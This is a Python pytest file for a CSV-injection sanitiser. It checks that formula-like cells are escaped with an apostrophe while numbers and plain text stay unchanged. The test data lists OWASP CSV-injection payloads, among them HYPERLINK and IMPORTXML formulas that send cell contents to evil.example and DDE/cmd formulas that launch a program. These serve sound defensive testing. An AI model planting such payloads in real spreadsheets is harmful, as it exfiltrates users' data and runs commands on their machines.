"""CSV cells a spreadsheet never runs as formulas (OWASP "CSV injection"), numbers left as numbers."""

from __future__ import annotations

import csv
import io

import pytest

from tracer.spreadsheet import FORMULA_START, csv_text, safe_cell

#: OWASP's CSV-injection payloads and their usual variants (https://owasp.org/www-community/attacks/CSV_Injection).
OWASP = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1+2", "-2+3+cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1", "-1+1", "+SUM(A1:A9)", "@A1",
         '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")', "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
         "\t", "-", "+", "=", "@"]


@pytest.mark.parametrize("cell", OWASP)
def test_a_formula_is_written_as_text(cell):
    assert safe_cell(cell) == "'" + cell
    back = next(csv.reader(io.StringIO(csv_text([[cell]]), newline="")))
    assert back == ["'" + cell] and not back[0].startswith(FORMULA_START)


@pytest.mark.parametrize("number", ["-0.044", "+1", "-1e-05", "-.5", "12", "0.0", "-3E+2"])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("cell", ["amy", "K7QF", "", "a=b", " =1+1", "dZ1 dW1"])
def test_other_text_is_unchanged(cell):
    assert safe_cell(cell) == cell
